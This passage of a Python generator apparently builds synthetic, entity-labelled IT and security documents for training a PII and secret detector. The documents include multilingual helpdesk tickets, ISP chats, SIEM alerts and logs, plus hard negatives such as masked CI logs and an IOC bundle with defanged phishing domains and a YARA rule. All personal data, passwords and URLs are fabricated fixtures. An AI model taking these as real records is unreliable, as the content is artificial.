    b("Referente tecnico: ", honorific(rng, rt, "it"), PER(rt.full), ", ", EML(email(rng, rt, dom)), ", tel. ", PHN(phone(rng, "it", True)), "\n")
    return b


def k_it_ticket_email(rng):
    b = B()
    co, dom = company(rng, "it")
    u, op = person(rng, "it"), person(rng, "it")
    t = rdt(rng)
    tk = ticket(rng, "snow")
    email_headers(b, rng, ["Assistenza IT <", EML(f"helpdesk@{dom}"), ">"], [EML(email(rng, u, dom))], f"[{tk}] Richiesta aggiornata: accesso VPN", t)
    b("\nGentile ", PER(u.first), ",\n\nla sua richiesta ", tk, " è stata aggiornata.\n\n")
    b("Richiedente: ", PER(u.full), "\nSede: ", LOC(city_of(rng, "it")), "\nTelefono: ", PHN(phone(rng, "it")), "\n")
    b("Scadenza SLA: ", DTM(fdt(rng, future_dt(rng, t, (1, 4)), "it")), "\n\nNota dell'operatore ", PER(op.full), ":\n")
    b(rng.choice(["abbiamo reimpostato il profilo GlobalProtect; l'indirizzo pubblico registrato era ",
                  "il token RSA è stato risincronizzato; ultimo tentativo di accesso da "]), IPA(ip_pub(rng)), ". ")
    if chance(rng, 0.5):
        b("Password temporanea: ", PWD(password(rng, "temp")), " (da cambiare al primo accesso). ")
    b("\n\nPer rispondere: ", URL(url(rng, dom, "ticket")), "\n\nCordiali saluti,\nService Desk\n")
    return b


def k_pt_chamado(rng):
    b = B()
    co, dom = company(rng, "pt")
    s, at = person(rng, "pt"), person(rng, "pt")
    t = rdt(rng)
    c = rng.choice(CITIES["pt"])
    b(f"Chamado nº {rng.randint(100000, 999999)} - {rng.choice(['Sem acesso à VPN', 'Troca de senha', 'Notebook furtado', 'E-mail suspeito'])}\n")
    b("Solicitante: ", PER(pname(rng, s, ("full", "full", "upper"))), "\nE-mail: ", EML(email(rng, s, dom)), "\nRamal/Celular: ",
      str(rng.randint(2000, 7999)), " / ", PHN(phone(rng, "pt", True)), "\n")
    b("Unidade: ", LOC(f"{c[0]} - {c[3]}"), "\nAberto em: ", t.strftime("%d/%m/%Y %H:%M:%S"), "\n\nDescrição:\n")
    sc = rng.choice(["vpn", "furto", "phish"])
    if sc == "vpn":
        b("Desde ", DTM(fdt(rng, t - _dt.timedelta(hours=rng.randint(2, 30)), "pt")), " não consigo conectar na VPN. IP da minha casa: ", IPA(ip_pub(rng)), ".\n")
    elif sc == "furto":
        b("Meu notebook (", rng.choice(PERSON_BRANDS[:2]), ", série ", serial(rng), ") foi furtado em ", ADR(address(rng, "pt").one()), " no dia ",
          DTM(fdate(rng, t.date(), "pt")), ". B.O. nº ", dg(rng, 6), "/", str(t.year), ".\n")
    else:
        b("Recebi e-mail de \"", PER(person(rng, "pt").full), "\" <", EML(f"financeiro@{rng.choice(PHISH_DOMAINS)}"), "> pedindo para abrir ", URL(phish_url(rng)), ".\n")
    b("\nAtendente: ", PER(at.full), "\nPrazo de atendimento: ", DTM(fdt(rng, future_dt(rng, t, (1, 3)), "pt")), "\n")
    b("Solução: ", rng.choice(["perfil recriado, acesso normalizado.", "dispositivo bloqueado e apagado remotamente via Intune.", "remetente bloqueado no gateway."]), "\n")
    return b


def k_pt_operadora(rng):
    b = B()
    co = rng.choice(["Rede Sul Telecom", "Conecta Fibra", "VivaNet"])
    cl = person(rng, "pt")
    a = address(rng, "pt")
    t = rdt(rng)
    b(f"{co} - Atendimento por chat\nProtocolo: {t.year}{dg(rng, 10)}\n\n")
    tt = t

    def pre(w):
        nonlocal tt
        tt = tick(rng, tt, 10, 120)
        b(f"{tt.strftime('%H:%M')} ", *w, ": ")

    ag = person(rng, "pt")
    pre(["Atendente ", PER(ag.first)])
    b("Olá! Para começar, pode me informar o nome do titular e o número da conta?\n")
    pre(["Cliente"])
    b(PER(cl.full), ", conta ", ACC(acct(rng, "telecom")), "\n")
    pre(["Atendente ", PER(ag.first)])
    b("Obrigado. Confirma o endereço de instalação e a data de nascimento?\n")
    pre(["Cliente"])
    b(ADR(a.one()), " - nasci em ", DOB(fdate(rng, rdob(rng), "pt", False)), "\n")
    pre(["Atendente ", PER(ag.first)])
    b("Identifiquei oscilação no seu equipamento (IP ", IPA(ip_pub(rng)), "). Agendei uma visita técnica para ",
      DTM(fdt(rng, future_dt(rng, t, (1, 5), hours=[8, 13, 14]), "pt", weekday=chance(rng, 0.5))), ".\n")
    pre(["Cliente"])
    b("Ok. Podem me ligar no ", PHN(phone(rng, "pt", True)), " antes?\n")
    pre(["Atendente ", PER(ag.first)])
    b("Claro! Também troquei a senha do Wi-Fi para ", PWD(password(rng, "wifi")), ". Mais alguma coisa?\n")
    pre(["Cliente"])
    b("Não, obrigado.\n")
    return b


def k_nl_storing(rng):
    b = B()
    co = rng.choice(["Polderglas Internet", "Ziggurat Kabel", "NetHolland"])
    k = person(rng, "nl")
    a = address(rng, "nl")
    t = rdt(rng)
    b(f"{co} - Storingsmelding {rs(rng, 2, UPPER)}{dg(rng, 7)}\n\n")
    b("Klant: ", honorific(rng, k, "nl"), PER(pname(rng, k, ("full", "full", "lf"))), "\nKlantnummer: ", ACC(acct(rng, "telecom")), "\n")
    b("Adres: ", ADR(a.one()), "\nTelefoon: ", PHN(phone(rng, "nl", True)), "\nE-mail: ", EML(email(rng, k)), "\n")
    if chance(rng, 0.3):
        b("Legitimatie: rijbewijs ", DLN(dl_eu(rng, "nl")), "\n")
    b("\n")
    b("Omschrijving: geen internet sinds ", DTM(fdt(rng, t - _dt.timedelta(hours=rng.randint(1, 30)), "nl")), ". Modem (", rng.choice(["Sagemcom F@st 5359", "Arcadyan VRV9517", "Connectbox"]),
      ") knippert oranje; laatst bekende WAN-IP ", IPA(ip_pub(rng)), ".\n")
    b("Monteur ingepland op ", DTM(fdt(rng, future_dt(rng, t, (1, 6), hours=[8, 12, 13]), "nl", weekday=chance(rng, 0.5))), ".\n")
    if chance(rng, 0.6):
        b("Automatische incasso gewijzigd naar IBAN ", IBN(fmt_iban(rng, iban(rng, "NL"))), " t.n.v. ", PER(k.full), ".\n")
    b("Behandeld door: ", PER(person(rng, "nl").first), f" (doorlooptijd {duration(rng, 'nl')})\n")
    return b


def k_pl_zgloszenie(rng):
    b = B()
    co, dom = company(rng, "pl")
    z = person(rng, "pl")
    t = rdt(rng)
    a = address(rng, "pl")
    b(f"Zgłoszenie nr {ticket(rng, 'jira')}\nTemat: {rng.choice(['Brak dostępu do VPN', 'Zablokowane konto', 'Podejrzany e-mail', 'Awaria drukarki'])}\n")
    b("Zgłaszający: ", honorific(rng, z, "pl"), PER(pname(rng, z, ("full", "lf"))), "\nE-mail: ", EML(email(rng, z, dom)), "\nTelefon: ", PHN(phone(rng, "pl")), "\n")
    b("Lokalizacja: ", ADR(a.one()) if chance(rng, 0.5) else LOC(a.city), "\n")
    b(f"Utworzono: {t.strftime('%Y-%m-%d %H:%M')}\n\nOpis:\n")
    b("Od ", DTM(fdt(rng, t - _dt.timedelta(hours=rng.randint(1, 20)), "pl")), " nie mogę się zalogować. Ostatnia próba z adresu ", IPA(ip_pub(rng)),
      ", komputer ", hostname(rng, "ws"), " (", IPA(ip_priv(rng)), ").\n")
    b("\nTermin realizacji: ", DTM(fdt(rng, future_dt(rng, t, (1, 3)), "pl")), "\nPrzypisano: ", PER(person(rng, "pl").full), "\n")
    if chance(rng, 0.5):
        b("Hasło tymczasowe: ", PWD(password(rng, "temp")), "\n")
    return b


def k_ja_helpdesk(rng):
    b = B()
    co, dom = company(rng, "ja")
    p = person(rng, "ja")
    t = rdt(rng)
    a = address(rng, "ja")
    b(f"【お問い合わせ番号】{ticket(rng, 'snow')}\n【件名】{rng.choice(['VPNに接続できない', 'パスワードリセット依頼', '不審メールの報告', 'ノートPC紛失'])}\n")
    b("【氏名】", PER(p.full), "\n【メール】", EML(f"{p.rfirst}.{p.rlast}@{dom}"), "\n【電話】", PHN(phone(rng, "ja", chance(rng, 0.5))), "\n")
    if chance(rng, 0.6):
        b("【住所】", ADR(a.one()), "\n")
    b("【発生日時】", DTM(fdt(rng, t, "ja")), "\n\n【内容】\n")
    b("自宅から接続するとエラーになります。ルーターのグローバルIPは", IPA(ip_pub(rng)), "です。")
    b(rng.choice(["再起動しても改善しません。", "昨日までは問題ありませんでした。"]), "\n")
    b("\n【担当】", PER(person(rng, "ja").full), "\n【回答期限】", DTM(fdate(rng, (t + _dt.timedelta(days=rng.randint(1, 5))).date(), "ja")), "\n")
    return b


def k_de_uebergabe(rng):
    b = B()
    co, dom = company(rng, "de")
    a, n = person(rng, "de"), person(rng, "de")
    t0 = rdt(rng)
    b(f"Schichtübergabe Rechenzentrum - KW {t0.isocalendar()[1]}\n")
    b("Übergabe von ", PER(a.full), " an ", PER(n.full), "\nRufbereitschaft: ", PER(person(rng, "de").full), ", ", PHN(phone(rng, "de", True)), "\n\n")
    b("Offene Punkte:\n")
    b("- ", ticket(rng, "jira"), ": Speicherplatz auf ", hostname(rng, "srv"), " (", IPA(ip_priv(rng)), ") kritisch.\n")
    b("- Wartungsfenster ", DTM(fdt(rng, future_dt(rng, t0, (1, 7), hours=[22, 23, 0]), "de", weekday=chance(rng, 0.5))), " für Firmware-Update ", version(rng), ".\n")
    b("- Dienstleister ", rng.choice(["Bechtle", "Cancom", "Computacenter"]), " kommt am ", DTM(fdate(rng, (t0 + _dt.timedelta(days=2)).date(), "de")),
      ", Ansprechpartner ", *(lambda q: [honorific(rng, q, "de", 0.2), PER(q.full)])(person(rng, "de")), ".\n")
    b("- Gesperrte IP nach Brute-Force: ", IPA(ip_pub(rng)), " (", LOC(rng.choice(COUNTRY["de"])), ").\n\n")
    b("Schichtprotokoll:\n")
    t = t0
    for e in ["Alarm USV Raum 2 quittiert", "Backup-Job Nacht erfolgreich", "Neustart Druckserver", "keine besonderen Vorkommnisse"]:
        t = tick(rng, t, 1800, 9000)
        b(t.strftime("%H:%M"), " ", e, "\n")
    return b


def k_fr_postmortem(rng):
    b = B()
    co, dom = company(rng, "fr")
    t0 = rdt(rng)
    b(f"# Rapport post-incident - indisponibilité {rng.choice(['de la messagerie', 'du portail client', 'du VPN', 'de l’ERP'])}\n\n")
    b("**Rédigé par :** ", PER(person(rng, "fr").full), "  \n**Date de l'incident :** ", DTM(fdate(rng, t0.date(), "fr", weekday=chance(rng, 0.5))), "  \n")
    b(f"**Durée :** {duration(rng, 'fr')}\n\n## Résumé\n\n")
    b("Le ", DTM(fdt(rng, t0, "fr")), ", le cluster ", hostname(rng, "srv"), " (", IPA(ip_priv(rng)), ") est tombé suite à l'expiration d'un certificat. ",
      "Les sites de ", LOC(city_of(rng, "fr")), " et ", LOC(city_of(rng, "fr")), " ont été impactés.\n\n## Chronologie\n\n")
    t = t0
    for e in ["alerte Zabbix", "astreinte prévenue", "cellule de crise ouverte", "certificat renouvelé", "retour à la normale"]:
        b(t.strftime("%Hh%M"), f" - {e}\n")
        t = tick(rng, t, 300, 2400)
    b("\n## Actions\n\n")
    for _ in range(rng.randint(2, 3)):
        b("- ", rng.choice(["Automatiser le renouvellement ACME", "Superviser les dates d'expiration", "Mettre à jour la procédure d'astreinte"]),
          " - responsable : ", PER(person(rng, "fr").full), " - échéance : ", DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(10, 60))).date(), "fr")), "\n")
    b("\nContact astreinte : ", PHN(phone(rng, "fr", True)), "\n")
    return b


def k_es_alerta(rng):
    b = B()
    co, dom = company(rng, "es")
    u = person(rng, "es")
    g = rng.choice(GEO)
    doc = {"regla": rng.choice(["Inicio de sesión desde país inusual", "Múltiples fallos de autenticación", "Descarga masiva de ficheros"]),
           "gravedad": rng.choice(["alta", "media"]), "marca_tiempo": ts_iso(rdt(rng)),
           "usuario": {"nombre": PER(u.full), "correo": EML(email(rng, u, dom)), "telefono": PHN(phone(rng, "es", True))},
           "origen": {"ip": IPA(ip_pub(rng)), "ciudad": LOC(g[0]), "pais": LOC(g[1]), "codigo_pais": g[2]},
           "descripcion": S("El usuario ", PER(u.first), " accedió desde ", LOC(g[0]), " ", duration(rng, "es"), " después de conectarse desde ",
                            LOC(city_of(rng, "es")), "."),
           "enlace": URL(f"https://siem.{dom}/casos/{rng.randint(1000, 99999)}"), "id_evento": _uuid(rng)}
    J(b, doc, 2)
    b("\n")
    return b


# ---------------------------------------------------------------------------
# Hard-negative-only kinds (no labelled entity at all)
# ---------------------------------------------------------------------------


def n_syslog(rng):
    b = B()
    t = rdt(rng)
    host = hostname(rng, "srv")
    for _ in range(rng.randint(8, 16)):
        t = tick(rng, t, 0, 40)
        k = rng.random()
        if k < 0.2:
            b(f"{ts_syslog(t)} {host} systemd[1]: Started {rng.choice(['nginx.service', 'Daily apt upgrade', 'Session 4127 of user deploy', 'containerd.service'])} in {rng.randint(10, 9000)}ms.\n")
        elif k < 0.35:
            b(f"{ts_syslog(t)} {host} kernel: [{rng.randint(1000, 999999)}.{dg(rng, 6)}] EXT4-fs (nvme0n1p{rng.randint(1, 3)}): mounted filesystem {_uuid(rng)} r/w with ordered data mode.\n")
        elif k < 0.5:
            b(f"{ts_syslog(t)} {host} dockerd[{rng.randint(500, 9000)}]: time=\"{ts_iso(t)}\" level=info msg=\"image pulled\" digest=sha256:{sha256(rng)} version={version(rng)}\n")
        elif k < 0.62:
            b(f"{ts_syslog(t)} {host} CRON[{rng.randint(1000, 99999)}]: (root) CMD (/usr/local/bin/backup.sh --retention 14d --job {_uuid(rng)})\n")
        elif k < 0.75:
            b(f"{ts_syslog(t)} {host} backup.sh[{rng.randint(1000, 99999)}]: snapshot {hx(rng, 8)} saved, {rng.randint(1, 900)} GiB in {duration(rng)}, epoch {epoch(rng)}\n")
        elif k < 0.87:
            b(f"{ts_syslog(t)} {host} sshd[{rng.randint(1000, 99999)}]: pam_unix(sshd:session): session closed for user {rng.choice(['deploy', 'ansible', 'svc_backup'])}\n")
        else:
            b(f"{ts_syslog(t)} {host} app[{rng.randint(1000, 99999)}]: request_id={_uuid(rng)} user_id={rng.randint(1000, 999999)} status=200 latency={rng.randint(2, 900)}ms build={sha1(rng)[:10]}\n")
    return b


def n_ci_log(rng):
    b = B()
    t = rdt(rng)

    def ln(s):
        nonlocal t
        t = tick(rng, t, 0, 9)
        b(t.strftime("%Y-%m-%dT%H:%M:%S.") + dg(rng, 7) + "Z " + s + "\n")

    ln("##[group]Run actions/setup-node@v4")
    ln(f"with:\n  node-version: {rng.choice(['18', '20', '22'])}.x\n  cache: npm\n  token: ***")
    ln("##[endgroup]")
    ln(f"Cache restored from key: node-cache-Linux-x64-npm-{sha256(rng)}")
    ln(f"added {rng.randint(200, 2000)} packages, and audited {rng.randint(200, 2000)} packages in {rng.randint(5, 90)}s")
    ln("##[group]Run ./deploy.sh")
    ln("env:\n  AWS_ACCESS_KEY_ID: ***\n  AWS_SECRET_ACCESS_KEY: ***\n  STRIPE_KEY: ${{ secrets.STRIPE_LIVE_KEY }}\n  DB_PASSWORD: ${{ secrets.DB_PASSWORD }}")
    ln("##[endgroup]")
    ln(f"Using credentials from ${{AWS_PROFILE}} (masked: ****************{rs(rng, 4, UPPER)})")
    ln(f"Building image registry.internal/app:{version(rng)} from commit {sha1(rng)}")
    ln(f"Step 7/12 : RUN pip install -r requirements.txt ---> Using cache ---> {hx(rng, 12)}")
    ln(f"Successfully tagged app:{sha1(rng)[:7]}")
    ln(f"Uploading artifact dist.zip ({rng.randint(1, 90)} MB), sha256 {sha256(rng)}")
    ln(f"Deployment {_uuid(rng)} finished in {duration(rng)}")
    ln("Job completed with exit code 0; secrets were redacted (***)")
    return b


def n_terraform_refs(rng):
    b = B()
    acct_id = dg(rng, 12)
    b(f"# modules/app/main.tf - provider pinned to {version(rng)}\n")
    b('provider "aws" {\n  region     = var.region\n  access_key = var.aws_access_key_id\n  secret_key = var.aws_secret_access_key\n}\n\n')
    b('resource "aws_db_instance" "this" {\n  identifier = "${var.name}-db"\n  username   = var.db_user\n  password   = data.aws_secretsmanager_secret_version.db.secret_string\n')
    b(f'  kms_key_id = "arn:aws:kms:{rng.choice(CLOUD_REGIONS[:5])}:{acct_id}:key/{_uuid(rng)}"\n}}\n\n')
    b('resource "kubernetes_secret" "app" {\n  data = {\n    DB_PASSWORD   = var.db_password\n    STRIPE_SECRET = "${var.stripe_secret}"\n    SLACK_TOKEN   = local.slack_token\n  }\n}\n\n')
    b('output "db_endpoint" {\n  value     = aws_db_instance.this.endpoint\n  sensitive = true\n}\n')
    b(f"# state serial {rng.randint(10, 9999)}, lineage {_uuid(rng)}\n")
    return b


def n_change_ticket(rng):
    b = B()
    b(f"{ticket(rng, 'chg')} - Patch Tuesday rollout (ring {rng.randint(0, 3)})\n")
    b(f"Requested by: {rng.choice(['svc-patching', 'team-endpoint', 'cab-bot'])}\nWindow: {rng.choice(['Saturday', 'Sunday', 'Wednesday'])} night, starting after the backup job; expected duration {duration(rng)}\n")
    b(f"Scope: {rng.randint(100, 4000)} endpoints, KB{dg(rng, 7)} and KB{dg(rng, 7)}, Chrome {version(rng)}, Office build 16.0.{rng.randint(10000, 18000)}.{rng.randint(20000, 99999)}\n")
    b(f"Related: {ticket(rng, 'snow')}, {ticket(rng, 'jira')}, problem PRB{dg(rng, 7)}\n")
    b(f"Rollback: uninstall via SCCM collection {rs(rng, 3, UPPER)}00{rng.randint(100, 999)}; takes about {duration(rng)}\n")
    b(f"Approvals: CAB (approved last week), Security (pending)\nLocation of runbook: \\\\fs01\\IT\\Runbooks\\patching-v{rng.randint(2, 9)}.docx\n")
    b(f"Notes: {rng.choice(['Pilot ring reported no issues.', 'Two kiosks in Room 114 excluded.', 'Retry failed devices tomorrow morning.'])}\n")
    return b


def n_vuln_summary(rng):
    b = B()
    b(f"Dependency scan - {rng.choice(['trivy', 'grype', 'snyk'])} {version(rng)}\n\n")
    b(f"{'Package':<22}{'Installed':<14}{'Fixed':<14}{'Vuln':<18}Severity\n")
    for _ in range(rng.randint(5, 12)):
        b(f"{rng.choice(['openssl', 'libcurl', 'log4j-core', 'lodash', 'jackson-databind', 'urllib3', 'glibc', 'zlib', 'pillow', 'spring-web']):<22}"
          f"{version(rng):<14}{version(rng):<14}{cve(rng):<18}{rng.choice(['CRITICAL', 'HIGH', 'MEDIUM', 'LOW'])}\n")
    b(f"\nImage digest sha256:{sha256(rng)}\nScan id {_uuid(rng)}, took {duration(rng)}; {rng.randint(0, 40)} findings suppressed by policy {hx(rng, 8)}\n")
    return b


def n_payment_recon(rng):
    b = B()
    b(f"Settlement reconciliation - batch {dg(rng, 8)} - acquirer file {version(rng)}\n")
    b("txn_id,card,auth_code,amount,currency,status,invoice\n")
    for _ in range(rng.randint(6, 12)):
        card = rng.choice([masked_cc(rng), luhn_bad(rng), f"{rng.choice(['4', '5'])}{dg(rng, 5)}XXXXXX{dg(rng, 4)}", "tok_" + rs(rng, 24)])
        b(f"{hx(rng, 12)},{card},{rs(rng, 6, UPPER + DIG)},{rng.randint(5, 90000) + rng.randint(0, 99) / 100:.2f},{rng.choice(['USD', 'EUR', 'GBP'])},{rng.choice(['SETTLED', 'CHARGEBACK', 'REFUNDED'])},INV-{dg(rng, 7)}\n")
    bad_iban = iban(rng, rng.choice(["DE", "FR", "NL"]))
    bad_iban = bad_iban[:2] + f"{(int(bad_iban[2:4]) + rng.randint(1, 9)) % 97 + 2:02d}" + bad_iban[4:]
    if iban_ok(bad_iban):
        bad_iban = bad_iban[:-1] + str((int(bad_iban[-1]) + 1) % 10)
    b(f"\nPayout account: ABA {routing(rng)} / BIC {bic(rng)}; rejected beneficiary {bad_iban} (checksum failed)\n")
    b(f"Totals: {amount(rng)} gross, {amount(rng)} fees; file hash {md5(rng)}\n")
    return b


def n_fleet_assets(rng):
    b = B()
    b("Fleet & field equipment register\n\n")
    b(f"{'Unit':<10}{'Vehicle':<22}{'VIN':<20}{'Plate':<12}{'Tablet IMEI':<18}Modem MAC\n")
    for _ in range(rng.randint(4, 9)):
        b(f"FL-{rng.randint(100, 999):<7}{rng.choice(['Ford Transit 350', 'Mercedes Sprinter', 'Toyota Hilux', 'Porsche Cayenne', 'Dodge Ram 2500']):<22}{vin(rng):<20}"
          f"{plate(rng, rng.choice(['en', 'de', 'fr'])):<12}{imei(rng):<18}{mac(rng)}\n")
    b(f"\nDepot: hangar near {rng.choice(IATA)}; spare tablets in {room(rng)}. Telematics firmware {version(rng)}; SIM pool ICCIDs start {iccid(rng)[:8]}...\n")
    return b


def n_k8s_events(rng):
    b = B()
    ns = rng.choice(["payments", "prod", "monitoring", "ingress-nginx"])
    b(f"$ kubectl get events -n {ns} --sort-by=.lastTimestamp\nLAST SEEN   TYPE      REASON              OBJECT                                   MESSAGE\n")
    for _ in range(rng.randint(6, 12)):
        pod = f"pod/{rng.choice(['api', 'worker', 'web', 'cron'])}-{hx(rng, 10)}-{rs(rng, 5, LOWER + DIG)}"
        b(f"{rng.randint(1, 59)}{rng.choice(['s', 'm', 'h'])}".ljust(12), rng.choice(["Normal", "Warning"]).ljust(10),
          rng.choice(["Pulled", "BackOff", "Scheduled", "Killing", "Unhealthy", "OOMKilled"]).ljust(20), pod.ljust(41),
          rng.choice([f"Successfully pulled image \"registry.internal/app:{version(rng)}\" in {rng.randint(1, 30)}.{dg(rng, 3)}s",
                      "Back-off restarting failed container", f"Readiness probe failed: HTTP probe failed with statuscode: 503",
                      f"Container image digest sha256:{sha256(rng)[:24]}...", f"Successfully assigned {ns}/{pod[4:]} to {hostname(rng, 'k8s')}"]), "\n")
    return b


def n_dlp_fp(rng):
    b = B()
    b(f"DLP false-positive review - rule 'US SSN' - week {rng.randint(1, 52)}\n\n")
    for _ in range(rng.randint(5, 9)):
        k = rng.choice(["ssn", "mask", "luhn", "icd", "npi", "grp"])
        if k == "ssn":
            b(f"- {bad_ssn(rng)}  (invalid area; test data in QA fixture)\n")
        elif k == "mask":
            b(f"- {masked_ssn(rng)}  (already masked)\n")
        elif k == "luhn":
            b(f"- {luhn_bad(rng)}  (fails Luhn; order reference)\n")
        elif k == "icd":
            b(f"- ICD-10 {rng.choice(['E11.65', 'I25.10', 'M54.5', 'Z79.4', 'J44.1'])} / CPT {rng.randint(90000, 99499)}  (clinical code, not PII)\n")
        elif k == "npi":
            b(f"- NPI {luhn_complete('80840' + rng.choice('12') + dg(rng, 8))[5:]}  (provider identifier)\n")
        else:
            b(f"- group no. {dg(rng, 6)}, Rx {rng.choice(DRUGS)} {rng.choice([5, 10, 20, 40])} mg  (formulary extract)\n")
    b(f"\nTuning: raise minimum confidence to {rng.choice([75, 85])}; exclude path \\\\fs01\\QA\\fixtures. Reviewed under {ticket(rng, 'jira')}.\n")
    return b


def n_pet_ticket(rng):
    b = B()
    pet = rng.choice(PET_NAMES)
    b(f"{ticket(rng, 'snow')} - Keyboard typing random characters\nCaller: {rng.choice(['jmartin4', 'u104233', 'akowalczyk', 'lr_ops'])} (remote)\n")
    b(f"Asset: {rng.choice(PERSON_BRANDS[:2])}, serial {serial(rng)}, BIOS {version(rng)}\n\n")
    b(f"User says the cat ({pet}) walked over the keyboard {rng.choice(['yesterday', 'this morning', 'last night'])} and since then Sticky Keys keeps popping up. ")
    b(f"Also asked whether the {rng.choice(['Ben & Jerry', 'Jack Daniel', 'Kellogg'])}'s sticker voids the warranty.\n")
    b(f"Resolution: disabled Sticky Keys shortcut via GPO, closed after {duration(rng)}. Satisfaction: 5/5.\n")
    return b


def n_de_wartung(rng):
    b = B()
    b(f"Wartungsankündigung {ticket(rng, 'chg')}\n\nAm kommenden {rng.choice(['Samstag', 'Sonntag'])} wird die Firewall-Cluster-Software auf Version {version(rng)} aktualisiert. ")
    b(f"Geplante Dauer: {duration(rng, 'de').rstrip('.')}. Während dieser Zeit ist der VPN-Zugang eingeschränkt.\n")
    b(f"Betroffene Systeme: {hostname(rng, 'fw')}, {hostname(rng, 'fw')} (Zeitzone Europe/Berlin).\n")
    b(f"Rückfallplan: Konfigurations-Backup {sha1(rng)[:12]}, Wiederherstellung ca. {duration(rng, 'de').rstrip('.')}.\nBei Fragen bitte ein Ticket in der Kategorie Netzwerk eröffnen.\n")
    return b


def n_fr_deploy(rng):
    b = B()
    t = rdt(rng)
    for msg in ["début du déploiement", "récupération de l'image", "migration de la base", "redémarrage des pods", "vérification santé", "fin du déploiement"]:
        t = tick(rng, t, 2, 120)
        b(f"{t.strftime('%d/%m/%Y %H:%M:%S')} INFO  [deploy] {msg} - version {version(rng)} - commit {sha1(rng)[:8]} - durée {duration(rng, 'fr')}\n")
    b(f"Jeton d'accès : {'*' * rng.randint(8, 20)} (masqué) ; variable ${{REGISTRY_TOKEN}} non affichée.\n")
    return b


def n_es_runbook(rng):
    b = B()
    b("## Procedimiento de rotación de credenciales\n\n1. Exportar las variables:\n```\nexport DB_PASSWORD=${DB_PASSWORD}\nexport AWS_SECRET_ACCESS_KEY=${AWS_SECRET_ACCESS_KEY}\n```\n")
    b(f"2. Ejecutar `rotate.sh --ttl {rng.randint(1, 90)}d --dry-run` (versión {version(rng)}).\n3. Verificar el hash del artefacto: `{sha256(rng)}`.\n")
    b(f"4. Cerrar la petición {ticket(rng, 'jira')}. Tiempo estimado: {duration(rng, 'es')}.\n")
    return b


def n_ioc_hashes(rng):
    b = B()
    b(f"# IOC bundle {_uuid(rng)} (TLP:CLEAR) - campaign {rs(rng, 2, UPPER)}-{rng.randint(100, 999)}\n")
    for _ in range(rng.randint(4, 8)):
        b(f"sha256:{sha256(rng)}\n")
    b(f"md5:{md5(rng)}\n")
    for _ in range(rng.randint(2, 4)):
        b(f"domain:{defang(rng.choice(PHISH_DOMAINS))}\nurl:{defang(phish_url(rng))}\n")
    b(f'\nrule Loader_{rs(rng, 4, UPPER)} {{\n  strings:\n    $a = "{rs(rng, 12)}" ascii\n    $b = {{ {" ".join(hx(rng, 2) for _ in range(8))} }}\n  condition:\n    uint16(0) == 0x5A4D and all of them\n}}\n')
    return b


# ---------------------------------------------------------------------------
# Registry
# ---------------------------------------------------------------------------

EN_KINDS = [
    ("helpdesk_email", k_helpdesk_email, 1.2), ("siem_alert_json", k_siem_alert, 1.2), ("edr_alert_json", k_edr_alert, 1.0),
    ("firewall_log", k_firewall_log, 1.0), ("proxy_log", k_proxy_log, 1.0), ("vpn_log", k_vpn_log, 1.0), ("sshd_log", k_sshd_log, 0.8),
    ("windows_event_xml", k_winevent_xml, 0.8), ("incident_report", k_incident_report, 1.2), ("postmortem_md", k_postmortem, 1.0),
    ("phishing_report", k_phishing_report, 1.2), ("access_review_csv", k_access_review, 1.0), ("iam_export", k_iam_export, 1.0),
    ("reset_chat_en", lambda r: k_reset_chat(r, "en"), 1.0), ("oncall_handover", k_oncall_handover, 1.0), ("mdm_inventory_csv", k_mdm_inventory, 1.0),
    ("asset_register_md", k_asset_register, 0.9), ("cloudtrail_json", k_cloudtrail, 1.0), ("gcp_azure_audit_json", k_gcp_azure_audit, 0.8),
    ("terraform_tf", k_terraform, 1.0), ("ansible_yaml_ini", k_ansible, 0.9), ("helm_values_yaml", k_helm_values, 0.9), ("k8s_secret_yaml", k_k8s_secret, 0.9),
    ("gha_ci_log", k_gha_log, 1.0), ("jenkins_console_log", k_jenkins_log, 0.9), ("saml_debug_xml", k_saml_debug, 0.9), ("oidc_debug", k_oidc_debug, 0.9),
    ("isp_support_chat", k_isp_chat, 1.1), ("simswap_fraud_case", k_simswap_case, 0.9), ("iot_registration_json", k_iot_registration, 0.9),
    ("dfir_timeline_csv", k_dfir_timeline, 0.9), ("dlp_alert", k_dlp_alert, 1.2), ("hl7_interface_error_log", k_hl7_error, 0.9),
    ("ehr_helpdesk_ticket", k_ehr_ticket, 0.9), ("breach_notification_letter", k_breach_letter, 0.8), ("vuln_scan_report", k_vuln_report, 0.8),
    ("change_request", k_change_request, 0.9), ("pagerduty_incident_json", k_pagerduty, 0.8), ("slack_export_json", k_slack_export, 0.9),
    ("payment_service_log", k_payment_log, 0.9), ("secret_scanning_jsonl", k_secret_scan, 0.9), ("dotenv_paste", k_dotenv_paste, 0.9),
    ("nginx_access_log", k_nginx_log, 0.8), ("postfix_mail_log", k_postfix_log, 0.8), ("visitor_badge_log", k_visitor_log, 0.8),
    ("vendor_access_form", k_vendor_form, 0.8), ("onboarding_ticket", k_onboarding_ticket, 1.1), ("ocr_vpn_request_form", k_ocr_form, 0.9),
    ("radius_log", k_radius_log, 0.7), ("cert_expiry_notice", k_cert_notice, 0.8), ("ssh_key_ticket", k_sshkey_ticket, 0.9),
    ("app_error_dsn_log", k_app_error_dsn, 0.9), ("bug_bounty_report", k_bug_bounty, 0.7), ("voicemail_transcript_email", k_voicemail, 0.7),
    ("isp_outage_notice", k_outage_notice, 0.7), ("password_store_export_csv", k_pw_export, 0.7), ("soc_shift_report", k_soc_shift, 0.8),
    ("incident_bridge_ics", k_bridge_invite, 0.8), ("bec_payment_fraud_case", k_bec_case, 0.8), ("billing_dispute_email", k_billing_dispute, 0.8),
    ("payroll_sso_ticket_email", k_payroll_ticket, 1.1), ("pci_log_finding", k_pci_log_dump, 0.8), ("benefits_portal_ticket", k_benefits_ticket, 0.9),
    ("fhir_client_debug_log", k_fhir_debug, 0.9), ("vcard_contacts_export", k_vcard_export, 0.8),
]
XX_KINDS = [
    ("de_helpdesk_ticket", k_de_ticket, 1.2), ("de_telecom_kundendienst", k_de_telecom, 1.1), ("de_dsgvo_meldung", k_de_dsgvo, 0.9),
    ("de_schichtuebergabe", k_de_uebergabe, 0.8), ("fr_signalement_phishing", k_fr_phishing, 1.0), ("fr_fiche_fai", k_fr_isp, 1.0),
    ("fr_rapport_post_incident", k_fr_postmortem, 0.8), ("es_portabilidad", k_es_portabilidad, 1.0), ("es_alerta_siem_json", k_es_alerta, 0.8),
    ("it_verbale_incidente", k_it_incidente, 0.9), ("it_ticket_email", k_it_ticket_email, 0.9), ("pt_chamado_ti", k_pt_chamado, 1.0),
